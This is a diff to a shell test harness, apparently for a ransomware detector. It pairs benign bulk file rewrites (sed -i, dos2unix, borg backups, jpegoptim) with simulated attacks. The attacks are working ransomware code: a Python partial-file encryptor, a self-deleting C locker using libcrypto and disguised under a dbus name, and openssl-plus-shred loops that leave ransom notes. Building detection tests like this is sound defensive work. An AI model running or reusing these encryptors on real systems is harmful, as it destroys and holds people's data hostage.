@@ -957,3 +957,203 @@ sc_h31_ssh_renamed_openssl_devshm() {
   echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -mindepth 1 -type d | wc -l)" > $CASE/facts
   sshx priya 'cp /usr/bin/openssl /dev/shm/.kworker && cd ~/work && find . -type f | while read -r f; do /dev/shm/.kworker enc -aes-256-ctr -pbkdf2 -pass pass:kw-19 -in "$f" -out "$f.kw" && rm -f "$f"; done; for d in */; do echo "files encrypted; kw@onion.example" > "$d/KW-RESTORE.txt"; done; rm -f /dev/shm/.kworker'
 }
+
+# ---- twelfth batch, look-alikes: bulk work real hosts do that rewrites or renames many files — a package reinstall
+# (dpkg writes F.dpkg-new and renames it over F), sed -i and perl -pi over trees (a temp renamed over each file), a
+# python tool's F.tmp + os.replace, dos2unix over a tree, an encrypted borg backup that keeps the originals
+sc_b44_ssh_sudo_apt_reinstall() {
+  sshx deploy 'sudo DEBIAN_FRONTEND=noninteractive apt-get install --reinstall -y --no-download poppler-data >/dev/null 2>&1; dpkg -L poppler-data | wc -l'
+}
+pre_b45_ssh_sed_i_site() {
+  rm -rf /home/tomas/site; python3 - <<'P'
+import os, random
+r = random.Random(12)
+for d in ['blog', 'docs', 'shop', 'team', 'news', 'legal']:
+    os.makedirs(f'/home/tomas/site/{d}', exist_ok=True)
+    for i in range(30):
+        with open(f'/home/tomas/site/{d}/page-{i:03d}.html', 'w') as f:
+            f.write('<html><body>\n' + ''.join(f'<p><a href="https://old.example.com/{d}/{r.randint(1,999)}">link</a> text {r.random()}</p>\n' for _ in range(r.randint(5, 60))) + '</body></html>\n')
+P
+  chown -R tomas: /home/tomas/site
+}
+sc_b45_ssh_sed_i_site() {
+  sshx tomas "find ~/site -name '*.html' -exec sed -i 's#https://old.example.com#https://www.example.com#g' {} + && grep -rl www.example.com ~/site | wc -l"
+  rm -rf /home/tomas/site
+}
+pre_b46_ssh_perl_pi_notes() {
+  rm -rf /home/priya/notes; python3 - <<'P'
+import os, random
+r = random.Random(46)
+for d in ['2025-q1', '2025-q2', '2025-q3', '2025-q4', 'meetings', 'ideas', 'reading', 'travel']:
+    os.makedirs(f'/home/priya/notes/{d}', exist_ok=True)
+    for i in range(22):
+        with open(f'/home/priya/notes/{d}/note-{i:02d}.md', 'w') as f:
+            f.write(f'# {d} {i}\n\n' + ''.join(f'- item {r.randint(1,99)} due 2025-{r.randint(1,12):02d}-{r.randint(1,28):02d}\n' for _ in range(r.randint(5, 40))))
+P
+  chown -R priya: /home/priya/notes
+}
+sc_b46_ssh_perl_pi_notes() {
+  sshx priya "find ~/notes -name '*.md' -print0 | xargs -0 perl -pi -e 's/\\b2025-/2026-/g; s/\\s+\$/\\n/' && grep -rl 2026- ~/notes | wc -l"
+  rm -rf /home/priya/notes
+}
+pre_b47_ssh_python_tmp_replace_json() {
+  rm -rf /home/mkowalski/inventory; install -d -o mkowalski -g mkowalski /home/mkowalski/bin
+  python3 - <<'P'
+import json, os, random
+r = random.Random(47)
+for d in ['hosts', 'switches', 'printers', 'cameras', 'aps']:
+    os.makedirs(f'/home/mkowalski/inventory/{d}', exist_ok=True)
+    for i in range(40):
+        with open(f'/home/mkowalski/inventory/{d}/{d[:-1]}-{i:03d}.json', 'w') as f:
+            json.dump({'name': f'{d[:-1]}-{i:03d}', 'ip': f'10.{r.randint(0,9)}.{r.randint(0,255)}.{r.randint(1,254)}', 'tags': [r.choice(['a','b','c'])], 'schema': 1}, f)
+P
+  cat > /home/mkowalski/bin/migrate-inventory.py <<'P'
+import json, os, sys
+# schema 1 -> 2: write each record next to itself as F.tmp, fsync, then os.replace over F (atomic on one filesystem)
+n = 0
+for root, dirs, files in os.walk(sys.argv[1]):
+    for name in sorted(files):
+        if not name.endswith('.json'):
+            continue
+        p = os.path.join(root, name)
+        with open(p) as f:
+            rec = json.load(f)
+        rec['schema'] = 2; rec['site'] = 'hq'; rec['tags'] = sorted(set(rec.get('tags', [])) | {'migrated'})
+        tmp = p + '.tmp'
+        with open(tmp, 'w') as f:
+            json.dump(rec, f, indent=2, sort_keys=True); f.write('\n'); f.flush(); os.fsync(f.fileno())
+        os.replace(tmp, p)
+        n += 1
+print(n, 'records migrated')
+P
+  chown -R mkowalski: /home/mkowalski/inventory /home/mkowalski/bin
+}
+sc_b47_ssh_python_tmp_replace_json() {
+  sshx mkowalski 'python3 ~/bin/migrate-inventory.py ~/inventory'
+  rm -rf /home/mkowalski/inventory /home/mkowalski/bin
+}
+pre_b48_ssh_dos2unix_tree() {
+  rm -rf /home/tomas/import; python3 - <<'P'
+import os, random
+r = random.Random(48)
+for d in ['csv', 'sql', 'scripts', 'config']:
+    os.makedirs(f'/home/tomas/import/{d}', exist_ok=True)
+    for i in range(40):
+        with open(f'/home/tomas/import/{d}/part_{i:03d}.txt', 'w', newline='\r\n') as f:
+            for _ in range(r.randint(20, 200)): f.write(';'.join(str(r.randint(0, 10**6)) for _ in range(8)) + '\n')
+P
+  chown -R tomas: /home/tomas/import
+}
+sc_b48_ssh_dos2unix_tree() {
+  sshx tomas 'find ~/import -type f -exec dos2unix -q {} + && file ~/import/csv/part_000.txt'
+  rm -rf /home/tomas/import
+}
+pre_b49_cron_borg_encrypted_backup() {
+  rm -rf /srv/backup/borg /root/.config/borg /root/.cache/borg; mkdir -p /srv/backup
+  BORG_PASSPHRASE=b0rg-nas-2050 borg init -e repokey /srv/backup/borg >/dev/null 2>&1
+}
+sc_b49_cron_borg_encrypted_backup() {
+  rm -f /tmp/.b49-done
+  read m h < <(cron_at_next_minute)
+  echo "$m $h * * * root BORG_PASSPHRASE=b0rg-nas-2050 borg create --compression lz4 /srv/backup/borg::nas-{now:\%Y-\%m-\%d} /srv/nas/share /var/www/shop/uploads >/dev/null 2>&1; BORG_PASSPHRASE=b0rg-nas-2050 borg prune --keep-daily 7 /srv/backup/borg >/dev/null 2>&1; touch /tmp/.b49-done" > /etc/cron.d/borg-nightly
+  wait_cron /tmp/.b49-done; sleep 2; rm -f /etc/cron.d/borg-nightly
+  rm -rf /srv/backup/borg /srv/backup /root/.config/borg /root/.cache/borg
+}
+
+# ---- twelfth batch, attacks: intermittent (partial) encryption in place like LockBit/BlackCat (only the first 4 KiB
+# of each file overwritten, O_RDWR, no truncation, then a rename), a compiled locker linked with libcrypto that deletes
+# its own binary at start (no openssl CLI), and a find -print0 | while read -d '' loop of openssl enc + shred -u
+sc_h32_ssh_python_intermittent() {
+  install -d -m 755 /var/tmp/.pi
+  cat > /var/tmp/.pi/ic.py <<'P'
+import os, sys, hashlib
+# intermittent: only the head of each file is encrypted (a keystream XOR), written back at offset 0 without truncation
+key = hashlib.sha256(b'ic-4k-partial').digest()
+def stream(n):
+    out = b''; c = 0
+    while len(out) < n:
+        out += hashlib.sha256(key + c.to_bytes(8, 'big')).digest(); c += 1
+    return out[:n]
+for root, dirs, files in os.walk(sys.argv[1]):
+    for n in files:
+        if n.endswith('.bc7x') or n == 'RECOVER-BC7X.txt':
+            continue
+        p = os.path.join(root, n)
+        fd = os.open(p, os.O_RDWR)
+        head = os.pread(fd, 4096, 0)
+        os.pwrite(fd, bytes(a ^ b for a, b in zip(head, stream(len(head)))), 0)
+        os.close(fd)
+        os.rename(p, p + '.bc7x')
+    with open(os.path.join(root, 'RECOVER-BC7X.txt'), 'w') as f:
+        f.write('Your files are encrypted (bc7x). Do not rename them. bc7x@onion.example\n')
+P
+  echo "files $(find /home/priya/work -type f | wc -l) dirs $(find /home/priya/work -type d | wc -l)" > $CASE/facts
+  sshx priya 'python3 /var/tmp/.pi/ic.py ~/work'
+  rm -rf /var/tmp/.pi
+}
+pre_h33_ssh_sudo_selfdelete_libcrypto() {
+  install -d -m 700 /root/.h33
+  cat > /root/.h33/x.c <<'C'
+#include <dirent.h>
+#include <fcntl.h>
+#include <openssl/evp.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <unistd.h>
+static unsigned char key[32] = "0123456789abcdef0123456789abcdef", iv[16] = "fedcba9876543210";
+static void lock(const char *p) {
+  struct stat st; if (stat(p, &st) || st.st_size <= 0) return;
+  unsigned char *in = malloc(st.st_size), *out = malloc(st.st_size + 32); int n1 = 0, n2 = 0;
+  int fd = open(p, O_RDONLY); if (fd < 0) { free(in); free(out); return; }
+  ssize_t r = read(fd, in, st.st_size); close(fd); if (r != st.st_size) { free(in); free(out); return; }
+  EVP_CIPHER_CTX *c = EVP_CIPHER_CTX_new(); EVP_EncryptInit_ex(c, EVP_aes_256_ctr(), NULL, key, iv);
+  EVP_EncryptUpdate(c, out, &n1, in, st.st_size); EVP_EncryptFinal_ex(c, out + n1, &n2); EVP_CIPHER_CTX_free(c);
+  fd = open(p, O_WRONLY | O_TRUNC); if (fd >= 0) { write(fd, out, n1 + n2); close(fd); }
+  char q[4200]; snprintf(q, sizeof q, "%s.x1lc", p); rename(p, q);
+  free(in); free(out);
+}
+static void walk(const char *d) {
+  DIR *dir = opendir(d); struct dirent *e; char p[4096]; struct stat st;
+  if (!dir) return;
+  snprintf(p, sizeof p, "%s/X1LC-HELP.txt", d);
+  FILE *f = fopen(p, "w"); if (f) { fputs("All files encrypted with AES-256. x1lc@onion.example\n", f); fclose(f); }
+  while ((e = readdir(dir))) {
+    if (!strcmp(e->d_name, ".") || !strcmp(e->d_name, "..") || strstr(e->d_name, ".x1lc") || !strcmp(e->d_name, "X1LC-HELP.txt")) continue;
+    snprintf(p, sizeof p, "%s/%s", d, e->d_name);
+    if (lstat(p, &st)) continue;
+    if (S_ISDIR(st.st_mode)) walk(p); else if (S_ISREG(st.st_mode)) lock(p);
+  }
+  closedir(dir);
+}
+int main(int c, char **v) {
+  char self[4096]; ssize_t n = readlink("/proc/self/exe", self, sizeof self - 1);
+  if (n > 0) { self[n] = 0; unlink(self); }   /* no binary left on disk */
+  for (int i = 1; i < c; i++) walk(v[i]);
+  return 0;
+}
+C
+  gcc -O2 -o /root/.h33/x /root/.h33/x.c -lcrypto && rm -f /root/.h33/x.c
+  install -m 755 /root/.h33/x /var/tmp/.h33-dbus-upd; rm -rf /root/.h33
+}
+sc_h33_ssh_sudo_selfdelete_libcrypto() {
+  echo "files $(find /srv/nas/share -type f | wc -l) dirs $(find /srv/nas/share -type d | wc -l)" > $CASE/facts
+  # the dropper copies the binary to /tmp under a daemon's name and runs it; the binary unlinks itself at once
+  sshx deploy 'sudo sh -c "cp /var/tmp/.h33-dbus-upd /tmp/.dbus-session-upd && rm -f /var/tmp/.h33-dbus-upd && /tmp/.dbus-session-upd /srv/nas/share"; ls /tmp/.dbus-session-upd 2>&1 | head -1'
+  rm -f /var/tmp/.h33-dbus-upd /tmp/.dbus-session-upd
+}
+sc_h34_ssh_find_print0_openssl_shred() {
+  echo "files $(find /home/mkowalski/Documents -type f | wc -l) dirs $(find /home/mkowalski/Documents -mindepth 1 -type d | wc -l)" > $CASE/facts
+  sshx mkowalski 'bash -c '\''while IFS= read -r -d "" f; do openssl enc -aes-256-cbc -pbkdf2 -pass pass:Sh-0red -in "$f" -out "$f.sh0"; shred -u "$f"; done < <(find ~/Documents -type f -print0); for d in ~/Documents/*/; do echo "files encrypted and shredded: sh0@onion.example" > "$d/SH0-RESTORE.txt"; done'\'''
+}
+pre_b50_ssh_jpegoptim_photos() {
+  rm -rf /home/tomas/Pictures; for d in 2026-09 2026-10 2026-11 2026-12; do mkdir -p /home/tomas/Pictures/$d
+    for i in $(seq 1 40); do convert -size 320x240 xc:gray +noise Random -quality 95 /home/tomas/Pictures/$d/DSC_$((5200+i)).jpg; done; done
+  chown -R tomas: /home/tomas/Pictures
+}
+sc_b50_ssh_jpegoptim_photos() {
+  # lossless optimisation in place: Huffman tables re-optimised, metadata stripped, each photo replaced under its own name
+  sshx tomas 'jpegoptim --strip-all --all-progressive -q ~/Pictures/*/*.jpg; ls ~/Pictures/*/*.jpg | wc -l'
+  rm -rf /home/tomas/Pictures
+}
